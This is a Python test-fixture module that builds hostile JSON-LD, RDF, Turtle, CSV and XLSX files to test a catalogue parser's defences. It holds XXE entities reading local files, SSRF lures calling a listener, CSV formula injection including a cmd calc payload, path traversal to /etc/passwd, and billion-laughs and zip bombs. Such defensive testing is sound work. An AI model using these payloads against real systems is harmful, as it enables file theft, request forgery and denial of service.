"""Files made to do harm: to exhaust whoever reads them, to reach another server, or to read a file of the reader.

`address` is where something listens that counts who calls, `secret` a file whose text must never come back.
"""

from collections.abc import Callable, Iterator
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

from broken_workbooks import SHEET, cells, parts, replaced, unpacking_to, with_rows, zipped
from faults.broken_files import BrokenFile, whole

_ITEM = b"<urn:x> a <https://w3id.org/bps/ns#Catalogue> .\n"
_RDF = b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
_SH = "http://www.w3.org/ns/shacl#"
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"


def hostile_files(address: str, secret: str, *, bombs: bool = True) -> Iterator[BrokenFile]:
    """One of each; without `bombs` those alone that cost little."""
    for name, make in (*_LURES.items(), *(_BOMBS.items() if bombs else ())):
        content = make(address, secret)
        yield BrokenFile(name.rpartition(".")[2], name.replace(" ", "-"), content, (name,))


def _context(value: str) -> Callable[[str, str], bytes]:
    def make(address: str, secret: str) -> bytes:
        said = value.format(address=address, secret=secret)
        return b'{"@context": %s, "@id": "urn:x", "name": "y"}' % said.encode()

    return make


def _doctype(inside: str, use: str = "") -> Callable[[str, str], bytes]:
    def make(address: str, secret: str) -> bytes:
        said = inside.format(address=address, secret=secret)
        body = b'<rdf:Description rdf:about="urn:x"><rdf:value>%s</rdf:value></rdf:Description></rdf:RDF>'
        return f"<?xml version='1.0'?>\n<!DOCTYPE rdf:RDF {said}>".encode() + _RDF + body % use.encode()

    return make


def _statements(text: str) -> Callable[[str, str], bytes]:
    """A whole catalogue with more said in it."""

    def make(address: str, secret: str) -> bytes:
        return whole("turtle") + b"\n" + text.format(address=address, secret=secret, sh=_SH).encode()

    return make


def _rows(text: str) -> Callable[[str, str], bytes]:
    """A whole table with one more row."""

    def make(address: str, secret: str) -> bytes:
        return whole("csv") + text.format(address=address, secret=secret).encode() + b"\r\n"

    return make


def _sheet(text: str) -> Callable[[str, str], bytes]:
    def make(address: str, secret: str) -> bytes:
        return with_rows(text.format(address=address, secret=secret).encode())

    return make


def _with_relation(kind: str, target: str) -> Callable[[str, str], bytes]:
    """A whole workbook whose sheet is related to something outside of it."""

    def make(address: str, secret: str) -> bytes:
        said = target.format(address=address, secret=secret)
        relation = (
            f'<Relationships xmlns="{_PACKAGE}"><Relationship Id="rId99" Type="{_RELATIONS}/{kind}" '
            f'Target="{said}" TargetMode="External"/></Relationships>'
        )
        book = parts(whole("xlsx"))
        sheet = next(name for name in book if name.startswith("xl/worksheets/"))
        place = f"xl/worksheets/_rels/{sheet.rpartition('/')[2]}.rels"
        return zipped((book | {place: relation.encode()}).items())

    return make


def _sheet_with_doctype(address: str, secret: str) -> bytes:
    sheet = parts(cells(A1="x"))[SHEET]
    declared = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{secret}">]>'.encode()
    return replaced(cells(A1="x"), SHEET, declared + sheet.replace(b"<v>0</v>", b"<v>&e;</v>"))


def _laughs(levels: int) -> str:
    entities = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, levels))
    return f'[<!ENTITY a0 "ha">{entities}]'


def _laughing_workbook(address: str, secret: str) -> bytes:
    strings = f'<!DOCTYPE sst {_laughs(9)}><sst xmlns="{_MAIN}"><si><t>&a8;</t></si></sst>'
    return replaced(cells(A1="x"), "xl/sharedStrings.xml", strings.encode())


def _many_parts(address: str, secret: str) -> bytes:
    file = BytesIO()
    with ZipFile(file, "w", ZIP_DEFLATED) as package:
        for number in range(5_000):
            package.writestr(f"xl/worksheets/sheet{number}.xml", b"<x/>")
    return file.getvalue()


def _nested(opening: bytes, middle: bytes, closing: bytes, depth: int) -> Callable[[str, str], bytes]:
    return lambda address, secret: opening * depth + middle + closing * depth


_LURES: dict[str, Callable[[str, str], bytes]] = {
    "context of a server.jsonld": _context('"http://{address}/context"'),
    "contexts in a list.jsonld": _context('["http://{address}/a", {{"name": "urn:n"}}]'),
    "context of a file.jsonld": _context('"file://{secret}"'),
    "context of a path.jsonld": _context('"{secret}"'),
    "context imported.jsonld": _context('{{"@version": 1.1, "@import": "http://{address}/import"}}'),
    "document type of a server.rdf": _doctype('SYSTEM "http://{address}/x.dtd"'),
    "document type of a file.rdf": _doctype('SYSTEM "file://{secret}"'),
    "entity of a file.rdf": _doctype('[<!ENTITY e SYSTEM "file://{secret}">]', "&e;"),
    "entity of a server.rdf": _doctype('[<!ENTITY e SYSTEM "http://{address}/e">]', "&e;"),
    "entity of a parameter.rdf": _doctype('[<!ENTITY % e SYSTEM "http://{address}/e"> %e;]'),
    "style sheet.rdf": lambda address, secret: (
        f"<?xml-stylesheet href='http://{address}/x.xsl'?>".encode() + _RDF + b"</rdf:RDF>"
    ),
    "imports.ttl": _statements(
        "<urn:o> a <http://www.w3.org/2002/07/owl#Ontology> ; <http://www.w3.org/2002/07/owl#imports> "
        "<http://{address}/o>, <file://{secret}> ."
    ),
    "shapes of a server.ttl": _statements("<> <{sh}shapesGraph> <http://{address}/shapes> ."),
    "query of a file.ttl": _statements(
        "<urn:s> a <{sh}NodeShape> ; <{sh}targetClass> <https://w3id.org/bps/ns#Catalogue> ; <{sh}sparql> "
        '[ <{sh}select> "SELECT $this ?value FROM <file://{secret}> WHERE {{ ?s ?p ?value }}" ] .'
    ),
    "query of a server.ttl": _statements(
        "<urn:s> a <{sh}NodeShape> ; <{sh}targetClass> <https://w3id.org/bps/ns#Catalogue> ; <{sh}sparql> "
        '[ <{sh}select> "SELECT $this WHERE {{ SER\\\\u0056ICE <http://{address}/> {{ ?s ?p ?o }} }}" ] .'
    ),
    "links.ttl": _statements(
        "<urn:x> <http://www.w3.org/2000/01/rdf-schema#seeAlso> <http://{address}/>, <file://{secret}>, "
        "<javascript:alert(1)>, <data:text/html,x> ."
    ),
    "formulas.csv": _rows('"=HYPERLINK(""http://{address}/"")",=cmd|\' /C calc\'!A0,@SUM(1),+1,-1,\t=1'),
    "paths.csv": _rows(
        "file://{secret},{secret},http://{address}/,\\\\{address}\\share,../../etc/passwd,%00"
    ),
    "formulas.xlsx": _sheet(
        '<row r="1"><c r="A1"><f>WEBSERVICE("http://{address}/")</f><v>1</v></c>'
        "<c r=\"B1\"><f>'file://{secret}'#$A.A1</f><v>1</v></c></row>"
    ),
    "link.xlsx": _with_relation("hyperlink", "http://{address}/"),
    "picture.xlsx": _with_relation("image", "http://{address}/x.png"),
    "drawing of a file.xlsx": _with_relation("drawing", "file://{secret}"),
    "book elsewhere.xlsx": _with_relation("externalLinkPath", "file://{secret}"),
    "entity of a file.xlsx": _sheet_with_doctype,
}

_BOMBS: dict[str, Callable[[str, str], bytes]] = {
    "laughs.rdf": _doctype(_laughs(9).replace("{", "{{").replace("}", "}}"), "&a8;"),
    "laughs.xlsx": _laughing_workbook,
    "unpacks to 400 MB.xlsx": lambda address, secret: unpacking_to(400_000_000),
    "unpacks to 49 MB.xlsx": lambda address, secret: unpacking_to(49_000_000, b"x" * 1_000),
    "many parts.xlsx": _many_parts,
    "far cell.xlsx": lambda address, secret: cells(A1="服务事项", XFD1048576="x"),
    "many rows.xlsx": lambda address, secret: with_rows(
        b"".join(b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (n, n) for n in range(1, 200_000))
    ),
    "deep collections.ttl": lambda address, secret: (
        _ITEM + b"<urn:y> <urn:p> " + b"(" * 100_000 + b")" * 100_000 + b" ."
    ),
    "deep blank nodes.ttl": lambda address, secret: (
        _ITEM + b"<urn:y> <urn:p> " + b"[<urn:p> " * 100_000 + b"1" + b"]" * 100_000 + b" ."
    ),
    "deep objects.jsonld": _nested(b'{"urn:a:b":', b"1", b"}", 20_000),
    "deep lists.jsonld": _nested(b"[", b"", b"]", 50_000),
    "deep graphs.jsonld": lambda address, secret: (
        b'{"@graph":[' + b'{"@id":"urn:x","urn:p:q":{"@list":[' * 60 + b"1" + b"]}}" * 60 + b"]}"
    ),
    "deep elements.rdf": lambda address, secret: (
        _RDF + b'<rdf:Description><rdf:value rdf:parseType="Resource">' * 50_000
    ),
    "long literal.ttl": lambda address, secret: _ITEM + b'<urn:y> <urn:p> "' + b"x" * 10_000_000 + b'" .',
    "long word.ttl": lambda address, secret: _ITEM + b"<urn:y> <urn:p> <urn:" + b"x" * 1_000_000 + b"> .",
    "many statements.nt": lambda address, secret: b"".join(
        b"<urn:s%d> <urn:p> <urn:o> .\n" % n for n in range(200_000)
    ),
    "many catalogues.ttl": lambda address, secret: b"".join(
        _ITEM.replace(b"urn:x", b"urn:x%d" % n) for n in range(50_000)
    ),
    "long line.csv": lambda address, secret: b'"' + b"x" * 10_000_000,
    "many columns.csv": lambda address, secret: b"x," * 1_000_000,
    "many quotes.csv": lambda address, secret: b'"' * 1_000_001 + b",\n" * 10_000,
    "digits.csv": lambda address, secret: whole("csv") + b"," + b"9" * 31_000 + b"," * 3 + b"1e999999999\r\n",
    "percents.csv": lambda address, secret: (
        whole("csv") + ("学前教育幼儿资助," + "每生每年" * 7_000 + "1000元,,,\r\n").encode()
    ),
}
